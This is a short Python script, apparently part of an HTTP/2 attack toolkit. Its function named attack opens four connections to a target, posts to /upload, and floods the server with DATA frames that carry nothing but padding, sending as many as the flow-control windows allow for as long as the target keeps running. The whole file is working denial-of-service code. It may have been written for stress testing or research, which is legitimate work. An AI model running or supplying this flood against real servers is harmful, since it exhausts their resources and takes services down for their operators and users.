"""DATA frames that are padding alone, as many as windows let through."""

import asyncio

from wire.http2 import DATA, ask, frame, http2
from wire.windows import Windows

PADDED = 8
BODY = b"\xff" + bytes(255)


async def attack(target):
    async def lane(number):
        async with http2(target, target.source(number), reads=False) as it:
            if it is None:
                return
            windows = Windows(1)
            it.task = asyncio.ensure_future(windows.follow(it))
            await it.send(ask(1, b"POST", b"/upload"))
            while target.goes_on():
                many = min(windows.room() // len(BODY), 500)
                windows.take(many * len(BODY))
                await it.send(frame(DATA, PADDED, 1, BODY) * many)
                await asyncio.sleep(0 if many else 0.01)

    await target.lanes(4, lane)
